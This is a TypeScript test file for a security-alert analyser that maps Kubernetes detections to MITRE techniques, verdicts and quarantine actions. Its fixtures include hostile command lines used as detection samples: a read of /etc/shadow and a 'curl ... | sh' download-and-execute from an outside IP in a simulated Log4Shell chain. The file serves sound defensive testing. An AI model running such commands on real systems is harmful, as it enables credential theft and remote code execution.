import { describe, expect, it } from 'vitest';
import type { Fact } from '../../evidence/fact.ts';
import { composePack, type EntityRef, type EvidenceDraft } from '../../evidence/pack.ts';
import { analyseByRules } from './analyse.ts';

const AT = '2025-10-18T22:41:45.660Z';
const POD: EntityRef = { kind: 'pod', canonical: 'prod-eks/catalog/search-a', label: 'catalog/search-a' };

const alert = (category: string): Fact => ({
  kind: 'alert',
  findingUid: 'f-1',
  title: category,
  category,
  message: 'a detection',
  severity: 'medium',
  occurredAt: AT,
  techniques: [],
});
const pod: Fact = {
  kind: 'pod',
  name: 'search-a',
  namespace: 'catalog',
  cluster: 'prod-eks',
  uid: '00000000-0000-4000-8000-000000000001',
  labels: {},
  images: [],
};
const line = (path: string, commandLine: string): Fact => ({ kind: 'process', pid: 7, path, commandLine });

function analyse(category: string, ...facts: readonly Fact[]) {
  const draft = (fact: Fact): EvidenceDraft => ({
    source: fact.kind === 'pod' ? 'kubernetes_api' : fact.kind === 'confirmation' ? 'cloud_api' : 'alert',
    field: 'x',
    trust: fact.kind === 'pod' || fact.kind === 'confirmation' ? 'own' : 'attacker_influenced',
    observedAt: AT,
    fact,
    entities: fact.kind === 'pod' ? [POD] : [],
  });
  const told: Fact = { kind: 'confirmation', confirmed: true, reason: 'AWS authenticated the sender' };
  return analyseByRules(
    composePack({
      incidentId: 'inc-0123456789abcdef0123',
      workload: { kind: 'pod', cluster: 'prod-eks', namespace: 'catalog', pod: 'search-a', controller: 'search' },
      vendorSeverity: 'medium',
      parts: [
        {
          part: 'alert-details',
          gatheredAt: AT,
          drafts: [alert(category), told, pod, ...facts].map(draft),
          cost: { calls: 0, bytes: 0, milliseconds: 0 },
        },
      ],
    }),
  );
}
const actions = (...given: Parameters<typeof analyse>) => analyse(...given).actions.map(({ action }) => action);
const techniques = (...given: Parameters<typeof analyse>) => analyse(...given).techniques.map(({ id }) => id);

describe('a detection with nothing beside it', () => {
  it('is looked into by people: a service is not cut off for what every release may bring', () => {
    const shipper = line('/fluent-bit/bin/fluent-bit', 'fluent-bit -c /etc/fluent-bit.conf');
    expect(actions('Read sensitive file untrusted', shipper)).toEqual(['advice.investigate']);
    const anomaly: Fact = {
      kind: 'anomaly',
      dimension: 'process',
      value: '/usr/bin/k6',
      neverSeenBefore: true,
      observedForDays: 30,
      sharedByReplicas: 1,
      basis: 'the baseline',
    };
    expect(actions('Unexpected connection', anomaly)).toEqual(['advice.investigate']);
  });

  it('is cut off once a sign was seen, or the vendor classifies it', () => {
    expect(actions('Read sensitive file untrusted', line('/usr/bin/cat', 'cat /etc/shadow'))).toContain(
      'kubernetes.quarantine-pod',
    );
    expect(actions('cryptoMiner')).toContain('kubernetes.quarantine-pod');
  });
});

describe('techniques by the words of a vendor', () => {
  it.each([
    ['CryptoCurrency:EC2/BitcoinTool.B!DNS', 'T1496.001'],
    ['cryptoMinerProcess', 'T1496.001'],
    ['Recon:EC2/PortProbeUnprotectedPort', 'T1595'],
    ['Discovery:Kubernetes/SuccessfulAnonymousAccess', 'T1613'],
    ['PrivilegeEscalation:Kubernetes/PrivilegedContainer', 'T1610'],
    ['Attach/Exec Pod', 'T1609'],
    ['Terminal shell in container', 'T1609'],
  ])('%s is %s', (category, id) => {
    expect(techniques(category)).toContain(id);
  });

  it('are taken from its category only - a message quotes the workload', () => {
    expect(techniques('Read sensitive file untrusted', line('/usr/bin/x', 'x port-probe cryptominer'))).toEqual([]);
  });
});

describe('a download', () => {
  it.each([
    'curl -fsS http://localhost:8080/healthz',
    'wget -q http://127.0.0.1/ready',
    'curl http://169.254.169.254/x',
  ])('is not what never leaves the machine: %s', (command) => {
    expect(techniques('unexpectedProcess', line('/usr/bin/x', command))).not.toContain('T1105');
  });

  it('is what comes from elsewhere, whatever its name begins with', () => {
    expect(techniques('unexpectedProcess', line('/usr/bin/curl', 'curl http://localhost.example.com/x'))).toContain(
      'T1105',
    );
  });
});

describe('a flaw that explains what was seen', () => {
  const LOG4SHELL: Fact = {
    kind: 'vulnerability',
    cve: 'CVE-2021-44228',
    cvss: 10,
    cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
    severity: 'critical',
    packageName: 'log4j-core',
    packageType: 'jar',
    packageVersion: '2.14.1',
    exploitInTheWild: true,
    exploitPublic: true,
    remote: true,
  };
  const chain = (path: string): Fact[] => [
    { kind: 'process', pid: 1, path, commandLine: `${path} -jar app.jar` },
    {
      kind: 'process',
      pid: 50,
      parentPid: 1,
      path: '/bin/sh',
      commandLine: 'sh -c curl -s http://203.0.113.20/d.sh | sh',
    },
    { kind: 'process', pid: 51, parentPid: 50, path: '/tmp/d', commandLine: '/tmp/d' },
  ];

  it('makes several signs below the attacked service malicious', () => {
    expect(analyse('unexpectedProcess', ...chain('/usr/bin/java'), LOG4SHELL).verdict).toBe('malicious');
  });

  it('is needed for that, and so are the signs: a build also runs what it fetched', () => {
    expect(analyse('unexpectedProcess', ...chain('/usr/bin/java')).verdict).toBe('suspicious');
    expect(analyse('unexpectedProcess', ...chain('/usr/local/bin/node'), LOG4SHELL).verdict).toBe('suspicious');
    expect(analyse('unexpectedProcess', ...chain('/usr/bin/java').slice(0, 1), LOG4SHELL).verdict).toBe('suspicious');
  });
});
